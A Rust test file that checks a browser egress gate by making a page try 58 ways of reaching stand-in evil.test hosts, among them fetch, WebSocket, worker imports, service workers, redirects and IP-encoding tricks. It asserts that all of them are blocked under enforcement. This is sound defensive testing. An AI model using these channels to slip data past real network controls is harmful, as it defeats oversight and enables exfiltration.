//! One page tries every way out we know of. First without enforcement: a way that does not arrive then proves nothing
//! later and is listed as unproven. Then with it: none may arrive.

use std::{
    collections::{BTreeSet, HashMap},
    net::{IpAddr, Ipv4Addr, UdpSocket},
    sync::Arc,
    time::Duration,
};

use greenroom::{
    browser::Browsers,
    egress::{Egress, Enforcement},
};
use serde_json::json;

use super::sinks::Sinks;
use crate::browser::{
    site::{Answer, Site},
    stage::{Mirror, Stage, config, url},
};

/// What arrives without enforcement, on every machine.
const PROVEN: [&str; 58] = [
    "audio",
    "beacon",
    "css",
    "css-image",
    "css-import",
    "dynamic-import",
    "embed",
    "eventsource",
    "fetch",
    "fetch-https",
    "font",
    "form-post",
    "icon",
    "iframe",
    "img",
    "img-https",
    "ip-decimal",
    "ip-dotted",
    "ip-hex",
    "ip-mapped",
    "ip-zero",
    "keepalive",
    "localhost",
    "lookalike",
    "lookalike-localhost",
    "manifest",
    "module",
    "modulepreload",
    "object",
    "other-port",
    "popup",
    "popup-noopener",
    "popup-redirect",
    "preconnect",
    "prefetch",
    "preflight",
    "preload",
    "redirect-fetch",
    "redirect-iframe",
    "redirect-img",
    "redirect-top",
    "sandbox",
    "script",
    "service-fetch",
    "service-ws",
    "shared-fetch",
    "shared-ws",
    "srcdoc",
    "srcset",
    "track",
    "video",
    "webtransport",
    "worker-fetch",
    "worker-import",
    "worker-ws",
    "ws",
    "wss",
    "xhr",
];

/// Tried, but it may be that none arrives even without enforcement, so their absence later shows nothing.
const MAYBE_UNPROVEN: &[(&str, &str)] = &[
    ("connect", "a connection opened ahead, that nothing came of"),
    ("stun", "needs a network interface besides loopback"),
    ("turn-tcp", "needs a network interface besides loopback"),
    ("ping", "switched off by --no-pings"),
    ("userinfo", "Chromium drops pictures from addresses with a user name"),
    ("speculation", "not from a browser under remote control"),
    ("redirect-prerender", "not from a browser under remote control"),
    ("dns-prefetch", "leaves no bytes of its own"),
];

/// The host under which a gate sees a way that has no name of its own there.
fn seen_as(way: &str) -> Option<&str> {
    Some(match way {
        // Not proxied at all: nothing to see, and the page says when it has given up.
        "webtransport" | "stun" | "turn-tcp" | "connect" => return None,
        "ip-dotted" | "ip-decimal" | "ip-hex" => "127.0.0.1",
        "ip-mapped" => "[::ffff:7f00:1]",
        "ip-zero" => "0.0.0.0",
        "lookalike-localhost" => "lookalike-rehearsal.localhost",
        "other-port" => "rehearsal.localhost",
        way => way,
    })
}

fn pages() -> Vec<(&'static str, Answer)> {
    const JS: &str = "Content-Type: text/javascript";
    let page = "<title>ways out</title><body><script src=/ways_out.js></script>";
    let worker = "fetch('http://worker-fetch.evil.test/'); new WebSocket('ws://worker-ws.evil.test/');\
                  importScripts('http://worker-import.evil.test/')";
    let shared = "fetch('http://shared-fetch.evil.test/'); new WebSocket('ws://shared-ws.evil.test/')";
    let service = "oninstall = event => event.waitUntil(fetch('http://service-fetch.evil.test/').catch(() => {}));\
                   new WebSocket('ws://service-ws.evil.test/')";
    let mut pages = vec![
        ("/", Answer::Html(page)),
        ("/ways_out.js", Answer::Other(JS, include_str!("ways_out.js"))),
        ("/worker.js", Answer::Other(JS, worker)),
        ("/shared.js", Answer::Other(JS, shared)),
        ("/service.js", Answer::Other(JS, service)),
    ];
    pages.extend([
        ("/redirect-img", Answer::Redirect("http://redirect-img.evil.test/")),
        ("/redirect-fetch", Answer::Redirect("http://redirect-fetch.evil.test/")),
        ("/redirect-iframe", Answer::Redirect("http://redirect-iframe.evil.test/")),
        ("/redirect-prerender", Answer::Redirect("http://redirect-prerender.evil.test/")),
        ("/popup-redirect", Answer::Redirect("http://popup-redirect.evil.test/")),
        ("/redirect-top", Answer::Redirect("http://redirect-top.evil.test/")),
    ]);
    pages
}

/// A stage whose persona may reach nothing but the rehearsal site, in front of fresh sinks.
async fn stage(enforcement: Enforcement, sinks: &Sinks) -> Stage {
    let mut stage = Stage::with(&[]).await;
    stage.site = Site::start(&pages()).await;
    // Even with enforcement on, every evil name has an address: only the rules stand in between.
    let fixed = [80, 443].map(|port| (("*.evil.test".to_owned(), port), sinks.tcp));
    let egress = Egress::for_test(stage.site.addr, enforcement, HashMap::from(fixed));
    stage.browsers = Browsers::new(config(), egress, stage.root.path().to_owned(), Arc::new(Mirror));
    // Closed at once, they may not get to ask for anything.
    stage.browsers.keep_popups();
    stage
}

/// An address of this machine that STUN is willing to use, if it has a network at all.
fn outward() -> IpAddr {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
    // Nothing is sent: this only asks for the route.
    let routed = socket.connect(("192.0.2.1", 9)).and_then(|()| socket.local_addr());
    routed.map_or(Ipv4Addr::LOCALHOST.into(), |addr| addr.ip())
}

async fn fire(stage: &Stage, sinks: &Sinks) {
    let ports = [("tcp", sinks.tcp), ("quic", sinks.quic), ("stun", sinks.stun)];
    let ports: Vec<String> = ports.iter().map(|(name, addr)| format!("{name}={}", addr.port())).collect();
    stage.goes_to(&format!("/?{}&ip={}", ports.join("&"), outward())).await;
    assert_eq!(stage.value("fire()").await, json!([]), "could not be fired");
}

/// Waits until the gate has turned away each of the ways that arrived before.
async fn all_refused(stage: &Stage, proven: &BTreeSet<String>) {
    let mut news = stage.browsers.newest_refusal(stage.persona.id).await.unwrap();
    loop {
        let refused = stage.browsers.refusals(stage.persona.id).await;
        let hosts: BTreeSet<&str> =
            refused.iter().map(|refused| refused.host.strip_suffix(".evil.test").unwrap_or(&refused.host)).collect();
        let first = |host: &str| hosts.iter().any(|seen| *seen == host || seen.split('.').next() == Some(host));
        let missing: Vec<&str> = proven.iter().filter_map(|way| seen_as(way)).filter(|host| !first(host)).collect();
        if missing.is_empty() {
            return;
        }
        let more = tokio::time::timeout(Duration::from_secs(20), news.changed()).await;
        more.unwrap_or_else(|_| panic!("neither arrived nor refused, so not tried: {missing:?}")).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_is_one_without_enforcement_and_none_with_it() {
    let sinks = Sinks::start().await;
    let open = stage(Enforcement::Off, &sinks).await;
    fire(&open, &sinks).await;
    open.step(json!({ "action": "goto", "url": url("/redirect-top") })).await;
    let arrived = tokio::time::timeout(Duration::from_secs(30), sinks.all_of(&PROVEN)).await;
    open.close().await;
    let proven = sinks.reached();
    assert!(arrived.is_ok(), "did not arrive: {:?}", PROVEN.iter().filter(|way| !proven.contains(**way)));
    for (way, why) in MAYBE_UNPROVEN.iter().filter(|(way, _)| !proven.contains(*way)) {
        println!("unproven: {way} ({why})");
    }
    let maybe = MAYBE_UNPROVEN.iter().map(|(way, _)| *way);
    let listed: BTreeSet<String> = PROVEN.into_iter().chain(maybe).map(str::to_owned).collect();
    assert!(proven.is_subset(&listed), "arrived by a way that is not listed: {:?}", &proven - &listed);

    let sinks = Sinks::start().await;
    let held = stage(Enforcement::On, &sinks).await;
    fire(&held, &sinks).await;
    held.does(json!({ "action": "expect_title", "contains": "given up" })).await;
    held.step(json!({ "action": "goto", "url": url("/redirect-top") })).await;
    all_refused(&held, &proven).await;
    held.close().await;
    assert_eq!(sinks.reached(), BTreeSet::new(), "got out");
}
